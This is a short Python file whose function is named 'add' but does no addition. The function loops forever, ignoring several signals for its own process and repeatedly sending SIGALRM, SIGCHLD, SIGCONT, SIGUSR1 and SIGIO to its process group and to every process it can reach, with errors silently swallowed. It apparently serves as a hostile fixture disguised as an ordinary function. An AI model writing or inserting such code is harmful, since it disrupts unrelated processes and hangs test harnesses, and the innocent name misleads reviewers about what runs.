"""Sends signals to all whom it can reach, again and again, until its time is over."""

KIND = "call"
import os
import signal


def add(a, b):
    while True:
        for which in (signal.SIGALRM, signal.SIGCHLD, signal.SIGCONT, signal.SIGUSR1, signal.SIGIO):
            signal.signal(which, signal.SIG_IGN)
            for who in (0, -1):
                try:
                    os.kill(who, which)
                except OSError:
                    pass
